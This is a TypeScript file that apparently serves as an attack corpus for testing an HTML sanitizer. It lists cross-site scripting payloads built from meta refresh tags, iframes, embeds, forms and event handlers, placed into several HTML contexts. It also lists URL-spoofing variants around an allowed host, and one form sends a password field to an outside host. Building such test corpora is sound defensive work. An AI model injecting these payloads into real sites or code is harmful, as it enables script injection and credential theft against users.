import type { Attacks } from '../attack-classes.js';
import { put } from './product.js';

const CONTEXTS = ['*', '<p>*</p>', '<table>*</table>', '<head>*</head>', '</p></body>*', '<svg>*'];

const METADATA = [
  '<meta content="&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)" http-equiv="refresh"/>',
  '<meta http-equiv="Link" content="<https://x.example/a.css>; REL=stylesheet">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta charset="utf-7">',
  '<base href="//x.example/" target="x">',
  '<link rel="stylesheet" href="https://x.example/a.css">',
  '<link rel=preload as=script href="//x.example" onload=alert(1)>',
  '<html onclick=alert(1) manifest="//x.example">',
  '<body onload=alert(1) background=javascript:x style="x:y" id=z>',
];

/** URLs of x.example, which may be embedded in some of the tests, and URLs that resemble them. */
const EMBED_URLS = [
  'https://x.example',
  'HTTPS://X.EXAMPLE/a',
  ' https://x.example:443/"onload=alert(1) x="',
  'http://x.example/',
  '//x.example/',
  'https:x.example',
  'https://x.example.evil.com/',
  'https://evil-x.example/',
  'https://a.x.example/',
  'https://x.example@evil.com/',
  'https://x.example:8443/',
  'https://x.example\\@evil.com/',
  'https://x.example./',
  'ht\ttps://x.example/',
  'https:&Tab;//x.example/',
  'https://x.example%2Fevil.com/',
  'https://x.example%00.evil.com/',
  'https://\uff58.example/',
  'https://\u0445.example/',
  'https://x\u00ad.example/',
  'https://evil.com/#https://x.example/',
  'javascript://x.example/%0aalert(1)',
  'blob:https://x.example/a',
  'https://x.example/<script>alert(1)</script>',
];
const FRAMES = [
  '<iframe src="*"></iframe>',
  '<iframe src="*" allowfullscreen sandbox="" onload=alert(1)>x',
];

const EMBEDDED = [
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="//x.example" sandbox="allow-scripts allow-same-origin"></iframe>',
  '<iframe src="https://www.youtube.com@x.example/"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  ...put(FRAMES, EMBED_URLS),
  '<frameset onload=alert(1)><frame src="javascript:alert(1);"></frameset>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<object data="javascript:alert(1)"><param name="DataURL" value="javascript:alert(1)"></object>',
  '<embed src="https://x.example/a.swf" AllowScriptAccess="always">',
  '<video poster="javascript:alert(1)" src=x onerror=alert(1)><source onerror="alert(1)"></video>',
  '<webview src="https://x.example" preload="x"></webview>',
];

const FORMS = [
  '<form action="https://x.example"><input name=password></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form id=x></form><button form=x formaction=javascript:alert(1)>y</button>',
  '<input/onmouseover="javaSCRIPT&colon;confirm&lpar;1&rpar;"',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<button popovertarget=x command=show-modal commandfor=y>z</button>',
  '<textarea autofocus onfocus=alert(1)>x</textarea>',
  '<label onclick=alert(1)>x<input></label>',
  '<form><form><form action=javascript:alert(1)><input type=submit>',
];

export const DOCUMENT_ATTACKS: Attacks = {
  'document metadata': put(CONTEXTS, METADATA),
  'frame or plug-in': put(CONTEXTS, EMBEDDED),
  form: put(CONTEXTS, FORMS),
};
